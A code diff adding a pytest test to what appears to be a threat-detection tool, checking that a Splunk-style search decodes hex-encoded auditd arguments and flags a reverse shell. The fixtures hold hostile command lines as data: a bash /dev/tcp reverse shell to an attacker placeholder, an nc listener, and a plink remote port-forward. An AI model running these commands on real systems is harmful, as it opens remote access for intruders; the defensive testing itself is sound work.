@@ -140,3 +140,25 @@ def test_evtx_attack_samples_raise_only_the_plink_rdp_tunnel(evtx_events):
     found = [(n.signal, int(n.risk_score), n.fields.get("process_name")) for n in notables]
     assert found == [("SSH_Remote_Port_Forward", 55, "plink.exe")]
     assert "-R 127.0.0.3:4444:127.0.0.2:3389" in notables[0].fields.get("command_line")
+
+
+def test_auditd_execve_records_as_splunk_extracts_them():
+    """In Splunk each audit record is its own event and EXECVE's arguments are fields a0..aN,
+    quotes dropped, hex left as hex (the offline reader decodes them itself): the search decodes
+    an all-hex argument that hides a space or quote, and leaves a port or a word alone."""
+    shell = "bash -i >& /dev/tcp/%s/4444 0>&1" % ATTACKER
+
+    def record(kind, serial, **fields):
+        raw = "type=%s msg=audit(%.3f:%d): " % (kind, T0, serial)
+        return dict(fields, _time=T0, sourcetype="linux:audit", source="/var/log/audit/audit.log",
+                    host="lnx31", type=kind, _raw=raw + " ".join("%s=%s" % kv for kv in fields.items()))
+    events = [
+        record("SYSCALL", 77, syscall="59", exe="/usr/bin/bash", pid="4100", ppid="1", auid="33"),
+        record("EXECVE", 77, argc="3", a0="bash", a1="-c", a2=shell.encode().hex().upper()),
+        record("SYSCALL", 78, syscall="59", exe="/usr/bin/nc", pid="4101", ppid="1", auid="33"),
+        record("EXECVE", 78, argc="3", a0="nc", a1="-lvnp", a2="4444"),
+    ]
+    notables, errors = Runner().hunt(events, names=[COMMANDS])
+    assert errors == {}
+    assert [(n.host, n.signal, n.fields.get("command_line")) for n in notables] == [
+        ("lnx31", "Reverse_Shell_Command_Line", "bash -c " + shell)]
